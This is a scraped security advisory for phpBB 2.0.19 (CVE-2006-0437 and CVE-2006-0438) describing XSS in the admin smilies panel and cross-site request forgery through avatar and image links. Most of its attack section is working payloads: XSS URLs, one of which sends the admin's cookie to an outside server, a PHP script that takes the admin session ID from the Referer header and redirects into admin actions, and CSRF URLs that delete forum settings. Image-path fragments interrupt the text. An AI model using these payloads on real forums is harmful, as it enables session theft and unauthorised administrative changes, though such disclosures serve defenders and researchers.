phpBB 2.0.19 Cross Site Request Forgeries and XSS Admin

Risk: Medium
Local: Yes
Remote: Yes

[phpBB 2.0.19 Cross Site Request Forgeries and XSS Admin] Author: Maksymilian Arciemowicz Date: 3.2.2006 CVE-2006-0437 for the XSS issues CVE-2006-0438 for the CSRF issues - --- 0.Description --- phpBB is a high powered, fully scalable, and highly customizable Open Source bulletin board package. phpBB has a user-friendly interface, simple and straightforward administration panel, and helpful FAQ. Based on the powerful PHP server language and your choice of MySQL, MS-SQL, PostgreSQL or Access/ODBC database servers, phpBB is the ideal free community solution for all web sites. Contact with author - --- 1. XSS admin --- In admin/admin_smilies.php you can create, modifcate smille. So nothing special but phpBB don't check what is going to db. case savenew - -448-473--- $smile_code = ( isset($HTTP_POST_VARS['smile_code']) ) ? $HTTP_POST_VARS['smile_code'] : $HTTP_GET_VARS['smile_code']; $smile_url = ( isset($HTTP_POST_VARS['smile_url']) ) ? $HTTP_POST_VARS['smile_url'] : $HTTP_GET_VARS['smile_url']; $smile_url = phpbb_ltrim(basename($smile_url), "'"); $smile_emotion = ( isset($HTTP_POST_VARS['smile_emotion']) ) ? $HTTP_POST_VARS['smile_emotion'] : $HTTP_GET_VARS['smile_emotion']; $smile_code = trim($smile_code); $smile_url = trim($smile_url); $smile_emotion = trim($smile_emotion); // If no code was entered complain ... if ($smile_code == '' || $smile_url == '') { message_die(GENERAL_MESSAGE, $lang['Fields_empty']); } // // Convert < and > to proper htmlentities for parsing. // $smile_code = str_replace('<', '<', $smile_code); $smile_code = str_replace('>', '>', $smile_code); // // Save the data to thesmiley table. // $sql = "INSERT INTO " . SMILIES_TABLE . " (code, smile_url, emoticon) VALUES ('" . str_replace("\'", "''", $smile_code) . "', '" . str_replace("\'", "''", $smile_url) . "', '" . str_replace("\'", "''", $smile_emotion) . "')"; $result = $db->sql_query($sql); - -448-473--- Only "<" and ">" are restricted. http://[HOST]/[DIR]/admin/admin_smilies.php?mode=savenew&smile_code=:x:&smile_url=icon_mrgreen.gif&smile_emotion=c" onmouseover="alert('cxsecurity.Com')" &sid=SIDofADMIN http://[HOST]/[DIR]/admin/admin_smilies.php?mode=savenew&smile_code=:h:&smile_url=icon_mrgreen.gif"%20onmouseover='alert("cxsecurity.Com")'%20&sid=SIDofADMIN http://[HOST]/[DIR]/admin/admin_smilies.php?mode=savenew&smile_code=:q:&smile_url=icon_mrgreen.gif"%20onmouseover="alert(document.location='http://[SRVER]/cookies?'+document.cookie)"%20&sid=SIDofADMIN and you have new smile. Ofcourse you can better do exploit. For IE and etc. - --- 2.Cross Site Request Forgeries --- phpBB admin in Administration Panel have SID in url. Ok. Example if you want see user profil or split, lock someone post etc. Like: http://[HOST]/[DIR]/admin/admin_users.php?sid=88eafcce6dddcee3fccc08de7ec505d0 http://[HOST]/[DIR]/modcp.php?t=2&mode=split&sid=c1db64124b7ced0668dec5900fed3b35 etc. If this user have "Link to off-site Avatar" ON or is bbcode (IMG) ON then you can create url to script with referer for admin.So when admin open profil the url will be executed. Need be referer in request. Next problem is: 103# if ( !preg_match("#^((ht|f)tp://)([^ \?&=\#\"\n\r\t<]*?(\.(jpg|jpeg|gif|png))$)#is", $avatar_filename) ) in includes/unsercp_avatar.php. Why? Because this preg() don't have limit of chars. In mysql phpbb DB you have (*_users) user_avatar varchar(100) only 100 chars will go to db. So you can post url like http://[HOST]/[DIR]/script.php/[100 chars].jpg Sent: http://[HOST]/[DIR]/script.php/2006020016200602001620060200162006020016200602001620060200162006020016200.jpg and in db is: http://[HOST]/[DIR]/script.php/cxsecuritycxsecuritycxsecuritycxsecuritycxsecuritycxsecuritycxsecuritycxsXX or in bbcode (IMG) http://[HOST]/[DIR]/script.php/cxsecurity.jpg Nothing special.. Ok.. You need create new user (nick name can be "FUCKmeADMIN" etc). And upload one script. Doesn't need be in serverwhere is phpbb. - -script.php-- <?php # cxsecurity.Com writed by Maksymilian Arciemowicz # Example exploit $operation='http://[HOST]/[DIR]/admin/admin_smilies.php?mode=savenew&smile_code=try&smile_url=icon_mrgreen.gif"%20onmouseover=\'alert("cxsecurity.Com)\'%20'; #http://[host]/admin/admin_smilies.php?mode=savenew&smile_code=a&smile_url=icon_mrgreen.gif" onmouseover='alert(document.cookie)' $sid=''; preg_match('#sid\=?([0-9a-z]*)#i', getenv('HTTP_REFERER'), $sid); if($sid[1]!=''){ header("Location: ".$operation."&sid=".$sid[1]); } ?> - -script.php-- In this script you need give someone operation. I think, can be: http://[HOST]/[DIR]/admin/admin_smilies.php?mode=savenew&smile_code=try&smile_url=icon_mrgreen.gif"%20onmouseover=\'alert("cxsecurity.Com)\'%20 create new smilie.. and all char a, change to image with javascript (XSS). http://[HOST]/[DIR]/admin/admin_smilies.php?mode=delete&id=63 Delete someone smile. http://[HOST]/[DIR]/admin/admin_words.php?mode=delete&id=1&sid=c1db64124b7ced0668dec5900fed3b35 Delete word censor. http://[HOST]/[DIR]/admin/admin_forums.php?mode=forum_order&move=15&f=4 Change position of forum=4. http://[HOST]/[DIR]/admin/admin_ranks.php?mode=delete&id=4 Delete Rank Administration http://[HOST]/[DIR]/login.php?logout=true Logout etc.. If admin have in url SID and img tag is displaying thatthis script can get SID form HTTP_REFERER and redirect tooperation for admin (header("Location...")). Admin can't see result. This XSS in Point 1 can you used for this trick. Solution is don't displaying <IMG> tags from user where have you SID in url. And use POST to any operations like create,remove smilies etc. - --- 3. Contact --- Author: Maksymilian ArciemowiczVote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2023,


Back to Top